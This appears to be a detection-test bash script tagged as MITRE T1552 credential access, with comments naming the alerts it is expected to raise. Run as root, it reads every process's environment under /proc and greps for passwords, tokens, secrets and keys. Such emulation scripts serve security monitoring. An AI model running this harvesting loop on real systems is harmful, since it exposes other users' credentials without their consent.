#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552 Unsecured Credentials (process environments)
# behaviour: reads the environment of every other user's processes for passwords and tokens
# as: root
# expect: process_memory_access, credential_access
set -u
for p in /proc/[0-9]*; do
  tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -E 'PASS|TOKEN|SECRET|KEY' || true
done | sort -u | head -20
